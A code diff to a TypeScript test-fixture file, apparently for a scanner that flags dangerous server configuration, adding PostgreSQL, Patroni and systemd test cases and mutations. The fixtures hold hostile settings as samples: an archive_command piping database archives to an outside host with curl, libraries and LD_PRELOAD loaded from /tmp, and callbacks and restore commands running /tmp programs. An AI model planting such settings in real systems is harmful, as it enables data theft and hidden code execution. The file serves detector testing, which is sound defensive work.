@@ -14,6 +14,8 @@ export const examples: Examples = {
           [PATH]:
             "FORWARDED_ALLOW_IPS='127.0.0.1'\nALLOWED_ORIGINS=https://a.example.org\nJWT_ALGORITHM=HS256\nLOG_LEVEL=INFO\nPYTHONUNBUFFERED=1\nPROXY_URL=https://proxy.example.org\nNODE_OPTIONS=--max-old-space-size=512\nDEBUG=false\n",
           "/opt/app/config.yaml": "rate_limiting:\n  enabled: true\nmetrics:\n  enabled: false\n",
+          "/etc/postgresql/17/main/postgresql.conf":
+            "shared_preload_libraries = 'pg_stat_statements,$libdir/pgaudit'\narchive_command = 'test ! -f /mnt/%f && cp %p /mnt/%f'\n",
         },
       },
     },
@@ -50,9 +52,41 @@ export const examples: Examples = {
       finds: [...settings(2, "/opt/app/config.yaml"), ...settings(1, "/opt/app/config.json")],
     },
     {
+      title: "libraries and commands of somebody in PostgreSQL, by Patroni and by itself",
+      hosts: {
+        web: {
+          "/etc/patroni/config.yml":
+            'postgresql:\n  parameters:\n    shared_preload_libraries: pg_stat_statements, /tmp/x.so\n    archive_command: "pgbackrest archive-push %p; curl -T %p https://a.example.org"\n',
+          "/etc/postgresql/17/main/postgresql.conf":
+            "dynamic_library_path = '/tmp:$libdir'\nrestore_command = 'sh /tmp/x %f %p'\n",
+        },
+      },
+      finds: [...settings(2, "/etc/patroni/config.yml"), ...settings(2, "/etc/postgresql/17/main/postgresql.conf")],
+    },
+    {
       title: "a drop-in for all units",
       hosts: { web: { "/etc/systemd/system/service.d/x.conf": "[Service]\nEnvironment=A=b LD_PRELOAD=/tmp/x.so\n" } },
       finds: settings(1, "/etc/systemd/system/service.d/x.conf"),
+    },
+    {
+      title: "a unit with the same text as a file that is none",
+      hosts: {
+        web: {
+          "/opt/app/a.conf": "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\n",
+          "/etc/systemd/system/a.service": "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\n",
+        },
+      },
+      finds: settings(1, "/etc/systemd/system/a.service"),
+    },
+    {
+      title: "programs that Patroni runs as a server starts, changes its role, or is made",
+      hosts: {
+        web: {
+          "/etc/patroni/config.yml":
+            "postgresql:\n  callbacks:\n    on_start: /tmp/x\n    on_role_change: /tmp/y\n  pre_promote: /tmp/z\nbootstrap:\n  post_bootstrap: /tmp/a\n",
+        },
+      },
+      finds: settings(4, "/etc/patroni/config.yml"),
     },
   ],
   unknown: [],
@@ -72,5 +106,29 @@ export const mutations: readonly Mutation[] = [
     "rate_limiting:\n  enabled: true",
     "rate_limiting:\n  enabled: false",
   ),
+  inFile(
+    /ticketing-api\.service$/,
+    "configure OpenSSL anew",
+    "[Service]",
+    "[Service]\nEnvironment=OPENSSL_CONF=/tmp/x",
+  ),
   inFile(/ticketing-api\.service$/, "load something by a unit", "[Service]", "[Service]\nEnvironment=PYTHONPATH=/tmp"),
+  inFile(
+    /patroni\/settle\.json$/,
+    "load a library into PostgreSQL",
+    '"shared_preload_libraries": "',
+    '"shared_preload_libraries": "/tmp/x.so,',
+  ),
+  inFile(
+    /patroni\/config\.yml$/,
+    "run a program at each start",
+    /^postgresql:$/m,
+    "postgresql:\n  callbacks:\n    on_start: /tmp/x",
+  ),
+  inFile(
+    /patroni\/settle\.json$/,
+    "send the archive away",
+    'archive-push %p"',
+    'archive-push %p; curl -T %p https://a"',
+  ),
 ];
